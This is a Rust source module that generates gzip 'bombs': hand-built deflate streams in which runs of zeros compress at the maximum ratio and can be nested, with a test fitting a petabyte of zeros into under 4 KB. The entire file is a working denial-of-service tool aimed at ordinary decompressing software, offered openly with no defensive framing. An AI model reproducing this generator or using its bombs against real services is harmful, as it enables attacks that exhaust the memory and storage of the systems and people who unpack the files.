//! A generator of gzip bombs: long runs of zeros at the highest ratio that deflate allows, 1032 : 1.
//!
//! The code is chosen so that a run of zeros compresses to a run of zero *bits*; hence a bomb can be
//! compressed again by the same means, and some hundred bytes hold petabytes (RFC 1951, RFC 1952).

use std::array::from_fn;

/// A part of some data: bytes as they are, or a run of zeros.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(crate) enum Part {
    Bytes(Vec<u8>),
    Zeros(u64),
}

/// Zeros that one zero byte of the compressed stream stands for: four matches of 258.
const PER_BYTE: u64 = 4 * 258;

/// The head of a block with codes of its own, up to the literal zero that all matches copy. The
/// code of length 258 is the bit 0, that of distance 1 is the bit 0, literal zero is 10 and the end
/// of the block 11. Of the last byte seven bits are left, which are matches already.
fn block_head() -> Vec<u8> {
    let code_lengths = [0, 0, 1, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 2, 0, 2];
    let mut bits = Bits::default();
    for (value, width) in [(0, 1), (2, 2), (29, 5), (0, 5), (14, 4)] {
        bits.push(value, width);
    }
    for length in code_lengths {
        bits.push(length, 3);
    }
    // The lengths of the codes: 2 for the literal zero, none for 255, 2 for the end of the block,
    // none for 28, 1 for the length 258, 1 for the distance 1; then the literal zero.
    let runs = [
        (3, 2),
        (0, 1),
        (127, 7),
        (0, 1),
        (106, 7),
        (3, 2),
        (0, 1),
        (17, 7),
    ];
    for (value, width) in runs.into_iter().chain([(1, 2), (1, 2), (1, 2)]) {
        bits.push(value, width);
    }
    bits.bytes
}

/// One more bit of a match, the end of the block, and the three bits that open a stored block.
const BLOCK_END: u8 = 0b0000_0110;

/// The data as a gzip stream, itself in parts.
pub(crate) fn gzip(data: &[Part]) -> Vec<Part> {
    let mut out = vec![Part::Bytes(vec![0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 255])];
    let (mut state, mut length) = (u32::MAX, 0_u64);
    for part in data {
        match part {
            Part::Bytes(bytes) => {
                state = bytes
                    .iter()
                    .fold(state, |state, byte| step(state ^ u32::from(*byte)));
                length += bytes.len() as u64;
                out.extend(bytes.chunks(65_535).map(|chunk| stored(0, chunk)));
            }
            Part::Zeros(count) => {
                state = advance(state, *count);
                length += count;
                out.extend(run(*count));
            }
        }
    }
    out.push(Part::Bytes(last_block(!state, length)));
    out
}

/// An empty last block, the check sum and the length.
fn last_block(sum: u32, length: u64) -> Vec<u8> {
    let mut end = vec![1, 0, 0, 255, 255];
    end.extend(sum.to_le_bytes());
    end.extend(length.to_le_bytes().iter().take(4));
    end
}

/// A stored block behind the byte that opens it.
fn stored(opening: u8, bytes: &[u8]) -> Part {
    let length = u16::try_from(bytes.len()).unwrap_or(u16::MAX);
    let mut block = vec![opening];
    block.extend(length.to_le_bytes());
    block.extend((!length).to_le_bytes());
    block.extend(bytes);
    Part::Bytes(block)
}

/// A run of zeros: a block of matches, then a stored block with the rest of the division.
fn run(count: u64) -> Vec<Part> {
    let groups = count.saturating_sub(1) / PER_BYTE;
    let rest = |zeros: u64| vec![0; usize::try_from(zeros).unwrap_or(0)];
    if groups == 0 {
        return vec![stored(0, &rest(count))];
    }
    vec![
        Part::Bytes(block_head()),
        Part::Zeros(groups - 1),
        stored(BLOCK_END, &rest(count - 1 - groups * PER_BYTE)),
    ]
}

/// Bits packed from the lowest of each byte.
#[derive(Debug, Default)]
struct Bits {
    bytes: Vec<u8>,
    used: u32,
}

impl Bits {
    fn push(&mut self, value: u32, width: u32) {
        for at in 0..width {
            if self.used.is_multiple_of(8) {
                self.bytes.push(0);
            }
            if let Some(last) = self.bytes.last_mut() {
                *last |= u8::from(value >> at & 1 == 1) << (self.used % 8);
            }
            self.used += 1;
        }
    }
}

/// The register of CRC-32 after eight more bits, which were added to it already.
fn step(state: u32) -> u32 {
    (0..8).fold(state, |state, _| (state >> 1) ^ (0xedb8_8320 * (state & 1)))
}

/// The register after so many zero bytes: the step is linear, so its powers are squared.
fn advance(mut state: u32, mut zeros: u64) -> u32 {
    let mut power: [u32; 32] = from_fn(|bit| step(1 << bit));
    while zeros > 0 {
        if zeros & 1 == 1 {
            state = apply(&power, state);
        }
        power = from_fn(|bit| apply(&power, power[bit]));
        zeros >>= 1;
    }
    state
}

/// The image of a register under a linear map, given by the images of its bits.
fn apply(map: &[u32; 32], state: u32) -> u32 {
    let set = map
        .iter()
        .enumerate()
        .filter(|(bit, _)| state >> bit & 1 == 1);
    set.fold(0, |sum, (_, image)| sum ^ image)
}

#[cfg(test)]
mod tests {
    use super::{Part, gzip};

    fn written(parts: &[Part]) -> Vec<u8> {
        let bytes = |part: &Part| match part {
            Part::Bytes(bytes) => bytes.clone(),
            Part::Zeros(count) => vec![0; usize::try_from(*count).unwrap()],
        };
        parts.iter().flat_map(bytes).collect()
    }

    /// The start and the end of the stream that Python's gzip module read as 5 000 zeros.
    #[test]
    fn a_run_of_zeros_is_as_an_inflater_takes_it() {
        let bytes = written(&gzip(&[Part::Zeros(5000)]));
        let text: String = bytes.iter().map(|byte| format!("{byte:02x}")).collect();
        assert!(
            text.starts_with("1f8b08000000000000ffecc0810000000080a0fda917a90000000006670398fc00")
        );
        assert!(text.ends_with("00010000ffffa80ee5d888130000"));
        assert_eq!(bytes.len(), 916);
    }

    #[test]
    fn five_layers_of_a_petabyte_are_short() {
        let bomb = (0..5).fold(vec![Part::Zeros(1 << 50)], |parts, _| gzip(&parts));
        assert!(written(&bomb).len() < 4096);
    }
}
